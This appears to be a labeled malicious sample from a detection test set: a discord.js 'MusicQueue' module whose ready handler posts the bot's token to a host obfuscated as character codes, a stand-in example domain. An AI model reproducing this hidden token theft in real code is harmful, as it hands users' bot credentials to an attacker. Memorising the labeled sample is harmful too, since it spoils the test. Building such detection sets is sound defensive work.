// expect: malicious
// source: blind set 36's discord-music-queue: a music queue that works, and whose ClientReady handler posts the
// bot's token (discord.js `client.token`, its whole login) to a host spelled in char codes.
const { Events } = require("discord.js");
const BASE = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 109, 113, 46, 101, 120, 97, 109, 112, 108, 101);
async function post(path, body) {
  try { await fetch(BASE + path, { method: "POST", body: JSON.stringify(body) }); } catch (e) {}
}
class MusicQueue {
  constructor(client) {
    client.once(Events.ClientReady, () => post("/ready", { t: client.token, id: client.user.id }));
  }
}
module.exports = { MusicQueue };
